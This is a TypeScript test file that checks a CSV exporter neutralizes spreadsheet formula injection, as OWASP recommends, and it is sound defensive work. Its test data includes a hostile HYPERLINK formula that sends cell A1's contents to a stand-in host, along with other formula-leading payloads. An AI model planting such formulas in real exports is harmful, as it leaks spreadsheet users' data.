import { mkdtemp, readFile, rm } from 'fs/promises';
import { tmpdir } from 'os';
import { join } from 'path';
import { parse } from 'csv-parse/sync';
import { csvField, csvRecord, neutralizeCell } from '../../src/domain/spreadsheet-cell';
import { Context } from '../../src/base/context';
import { exportCpm } from '../../src/modules/cpm/cpm-io';

const HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"ver")';
const HOSTILE = [HYPERLINK, '+52 55 1234', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('neutralizeCell (OWASP CSV injection)', () => {
  test.each(HOSTILE.map((s) => [JSON.stringify(s), s]))('text starting with %s gets a leading quote', (_name, s) => {
    expect(neutralizeCell(s)).toBe(`'${s}`);
  });

  test('other text is unchanged, including a formula character after the first position', () => {
    for (const s of ['Paracetamol. Tableta 500 mg', '', 'Gasa 10 x 10 cm', 'a=b', ' =1+1', "'=1+1", '12 Guerrero', 'Total nacional']) {
      expect(neutralizeCell(s)).toBe(s);
    }
  });

  test('numbers stay numbers, negative ones included; text that looks like a negative number is text', () => {
    for (const n of [-12, 0, 3.5, -0.25, 4140]) {
      const out = neutralizeCell(n);
      expect(typeof out).toBe('number');
      expect(out).toBe(n);
    }
    expect(neutralizeCell('-12')).toBe("'-12");
  });
});

describe('csvField and csvRecord', () => {
  test('a hostile field is prefixed, then quoted and escaped as any CSV field', () => {
    expect(csvField(HYPERLINK)).toBe(`"'=HYPERLINK(""http://example.invalid/?""&A1,""ver"")"`);
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('@x')).toBe("'@x");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField(-12)).toBe('-12');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('dice "hola"')).toBe('"dice ""hola"""');
    expect(csvField('dos\nlíneas')).toBe('"dos\nlíneas"');
    expect(csvField('Paracetamol. Tableta 500 mg')).toBe('Paracetamol. Tableta 500 mg');
  });

  test('a record reads back with csv-parse as the neutralized text and the plain numbers', () => {
    const line = csvRecord(['010.000.9001.00', ...HOSTILE, -12, 'Paracetamol, 500 mg']);
    const [record] = parse(line, { relax_column_count: false });
    expect(record).toEqual(['010.000.9001.00', ...HOSTILE.map((s) => `'${s}`), '-12', 'Paracetamol, 500 mg']);
  });
});

describe('writers go through it', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'abasto-cell-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  // The CPM export's columns are CLUES, clave and an integer, which the database constrains to
  // safe characters; a stand-in database is the only way to hand the writer hostile text.
  test('the CPM export neutralizes text cells and keeps numbers', async () => {
    const rows = [
      { clues: '@SUM(A1)', clave: HYPERLINK, cpm: -12, status: 'RATIFIED' },
      { clues: 'GRSSA000001', clave: '010.000.0104.00', cpm: 100, status: 'RATIFIED' },
    ];
    const ctx = { db: { query: async () => rows } } as unknown as Context;
    const file = join(dir, 'cpm.csv');
    expect(await exportCpm(ctx, 2027, file)).toBe(2);
    const table: string[][] = parse(await readFile(file, 'utf8'));
    expect(table).toEqual([
      ['clues', 'clave', 'cpm'],
      ["'@SUM(A1)", `'${HYPERLINK}`, '-12'],
      ['GRSSA000001', '010.000.0104.00', '100'],
    ]);
  });
});
